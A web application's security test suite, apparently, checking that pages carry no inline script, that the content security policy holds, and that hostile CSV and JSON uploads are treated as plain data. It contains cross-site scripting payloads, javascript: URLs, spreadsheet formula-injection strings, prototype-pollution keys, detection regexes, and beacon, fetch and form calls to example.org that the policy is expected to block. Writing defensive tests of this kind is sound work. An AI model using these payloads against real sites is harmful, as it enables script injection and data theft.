// The claims of web/docs/security.md: documents without inline script, a content security
// policy that the browser enforces, and hostile files that are read as plain tables.

import assert from "node:assert/strict";
import { readFileSync, readdirSync } from "node:fs";
import { test } from "node:test";
import { deflateRawSync } from "node:zlib";
import { openPage, root } from "./harness.mjs";
import { browser, server } from "./stage.mjs";
import { untilText, waitForResult } from "./waiting.mjs";

const site = new URL("bin/site/", root);
const files = (ending) => readdirSync(site, { recursive: true }).filter((name) => name.endsWith(ending));
const text = (name) => readFileSync(new URL(name, site), "utf8");

test("no document has inline code or echoes a request, and no script evaluates text", async () => {
  const documents = files(".html");
  assert.ok(documents.length >= 12, documents.join());
  for (const name of documents) {
    const inline = text(name).match(/<script(?![^>]*\ssrc=")[^>]*>|<style[\s>]|<[^>]+\s(?:style|on\w+|srcdoc)\s*=|(?:href|src|action)\s*=\s*["']?\s*(?:javascript|data|vbscript):|<(?:base|object|embed|form\s[^>]*action)\b/i);
    assert.equal(inline, null, `${name}: ${inline?.[0]}`);
    const external = text(name).match(/<(?:script|link|img|iframe|source|use)\b[^>]*\s(?:src|href|srcset)\s*=\s*["']?(?:https?:)?\/\/[^>]*/i);
    assert.equal(external, null, `${name}: ${external?.[0]}`);
  }
  for (const name of files(".js")) {
    const made = text(name).match(/(?<![\w.$])(?:eval|Function)\s*\(|new Function\b|document\.write\b|\bset(?:Timeout|Interval)\(["'`]/);
    assert.equal(made, null, `${name} evaluates text: ${made?.[0]}`);
  }
  const plain = await (await fetch(server.url)).text();
  const script = "\"><script>alert(1)</script>";
  assert.equal(await (await fetch(`${server.url}?q=${encodeURIComponent(script)}`)).text(), plain);
  for (const path of [encodeURIComponent(script), `s/${encodeURIComponent(script)}`, `api/links/${encodeURIComponent(script)}`]) {
    const answer = await fetch(server.url + path);
    assert.equal(answer.status, 404);
    assert.ok(!(await answer.text()).includes("alert"), path);
    assert.match(answer.headers.get("content-security-policy"), /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self';/);
    assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
  }
});

test("stored links without a web address are not listed", async () => {
  const links = ["javascript:alert(1)", "data:text/html,x", "https://host/s/4k3rz8w2mh7t", 7].map((url) => ({ id: "4k3rz8w2mh7t", url, token: "t", title: "x", time: 0 }));
  globalThis.localStorage = { getItem: () => JSON.stringify(links), setItem() {} };
  const { ownLinks } = await import("../dialogs/ownlinks.js");
  assert.deepEqual(ownLinks.list().map(({ url }) => url), ["https://host/s/4k3rz8w2mh7t"]);
});

let page; // of the next two tests; no other test can use it after the second

test("a hostile file is a plain table, without markup, prototypes, requests or formulas", async () => {
  const sent = [];
  page = await openPage(browser, server.url, {
    prepare: (context) => context.on("request", (request) => sent.push({ method: request.method(), url: request.url(), body: request.postData() })),
  });
  const waitForRun = () => waitForResult(page);
  const status = () => page.getByRole("status").first().textContent();
  const waitForStatus = (wanted) => untilText(status, wanted);
  const upload = async (name, contents) => page.getByLabel("Data file", { exact: true }).setInputFiles({ name, mimeType: "", buffer: Buffer.from(contents) });
  await waitForRun();
  await page.getByLabel("Tune the model", { exact: true }).uncheck();

  const markup = "<img src=x: onerror=alert(1)>";
  const names = ["__proto__", "constructor", markup, "=HYPERLINK(\"\"http://example.org\"\")", "@SUM(A1)", "toString", "y"];
  const rows = Array.from({ length: 30 }, (_, i) => names.slice(0, -1).map((_, j) => ((i + 1) * (i + 3 * j + 2)) % (11 + 2 * j)).concat(["__proto__", "hasOwnProperty"][(i * i) % 5 % 2]));
  await upload("secret-name.csv", [names.map((name) => `"${name}"`), ...rows].map((row) => row.join(",")).join("\n"));
  await waitForStatus(/^secret-name\.csv: 30 rows, 7 columns/);
  await page.getByLabel("Target", { exact: true }).selectOption("y");
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await waitForRun();
  assert.match(await status(), /^Converged/);
  assert.ok((await page.getByRole("table", { name: "Top weights", exact: true }).textContent()).includes("<img src=x"), "markup is shown as text");

  await page.getByRole("button", { name: "Export", exact: true }).click();
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Weights as CSV", exact: true }).click()]);
  const csv = readFileSync(await download.path(), "utf8");
  assert.match(csv, /"'=HYPERLINK/);
  assert.doesNotMatch(csv, /(^|,)"?[=+@]/m);
  await page.keyboard.press("Escape");

  // JSON with keys such as __proto__, and a link to an experiment with such a column.
  await upload("records.json", `[${rows.map(([a, b, c]) => `{"__proto__": ${a}, "constructor": ${b}, "y": ${c}}`).join()}]`);
  await waitForStatus(/^records\.json: 30 rows, 3 columns/);
  const link = JSON.stringify({ data: { source: "inline", columns: ["x", "y"], rows: [[1, 2], [2, 1], [3, 5], [4, 4]] }, target: "y" }).replaceAll("\"x\"", "\"__proto__\"");
  await page.evaluate((hash) => { location.hash = hash; }, `#e=1.${deflateRawSync(Buffer.from(link)).toString("base64url")}`);
  await waitForStatus(/cannot be called "__proto__": give it another name/);

  const { polluted, keys, injected } = await page.evaluate(() => ({
    polluted: [{}, [], () => {}].flatMap((thing) => { const own = []; for (const key in thing) own.push(key); return own; }),
    keys: Object.getOwnPropertyNames(Object.prototype).sort(),
    injected: document.querySelectorAll("img[src^=x]").length,
  }));
  assert.deepEqual([polluted, injected], [[], 0]);
  assert.deepEqual(keys, Object.getOwnPropertyNames(Object.prototype).sort());
  const { origin } = new URL(server.url);
  assert.ok(sent.length > 10, "requests were recorded");
  assert.deepEqual(sent.filter(({ method, url, body }) => method !== "GET" || body || !url.startsWith(origin) && !/^(blob|data):/.test(url) || /secret|HYPERLINK|\?./.test(url)), []);
  await page.assertNoErrors();
});

test("the policy blocks inline code, and scripts, styles and connections of other origins", async () => {
  const expected = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src", "script-src", "script-src-attr", "script-src-elem", "style-src-attr", "worker-src"];
  const { executed, refusals } = await page.evaluate(async (expected) => {
    const put = (markup) => document.body.insertAdjacentHTML("beforeend", markup);
    const executed = [];
    globalThis.reportExecution = (what) => executed.push(what);
    const attempts = [
      () => document.body.append(Object.assign(document.createElement("script"), { textContent: "reportExecution('inline script')" })),
      () => document.body.append(Object.assign(document.createElement("script"), { src: "data:text/javascript,reportExecution('data script')" })),
      () => document.body.append(Object.assign(document.createElement("script"), { src: "https://example.org/x.js" })),
      () => put("<img src=x: onerror=\"reportExecution('handler')\">"),
      () => put("<p id=styled style='position: fixed'>x</p>"),
      () => put("<img src=https://example.org/pixel.png>"),
      () => put("<iframe src=https://example.org/></iframe>"),
      () => put("<object data=https://example.org/></object>"),
      () => put("<base href=https://example.org/>"),
      () => fetch("https://example.org/").then(() => reportExecution("fetch"), () => {}),
      () => navigator.sendBeacon("https://example.org/", "x"),
      () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).addEventListener("message", () => reportExecution("worker")),
      () => { (0, eval)("reportExecution('eval')"); },
      () => { new Function("reportExecution('Function')")(); },
      () => { setTimeout("reportExecution('timer')"); },
      () => {
        put("<form action=https://example.org/ method=post><input name=x></form>");
        document.querySelector("form[action]").submit();
      },
    ];
    const refusals = new Set();
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refusals.add(effectiveDirective));
    for (const attempt of attempts) {
      // In a separate task: in a task of Playwright the browser allows eval.
      await new Promise((done) => setTimeout(async () => {
        try {
          await attempt();
        } catch {
          // A refusal may also throw.
        }
        done();
      }));
    }
    for (let turns = 0; turns < 300 && refusals.size < expected.length; turns++) await new Promise((done) => setTimeout(done, 100)); // violations are reported later
    if (getComputedStyle(document.getElementById("styled")).position === "fixed") executed.push("style");
    if (!document.baseURI.startsWith(location.origin)) executed.push("base");
    return { executed, refusals: [...refusals].sort() };
  }, expected);
  assert.deepEqual(executed, []);
  assert.deepEqual(refusals, expected);
  await page.context().close();
});
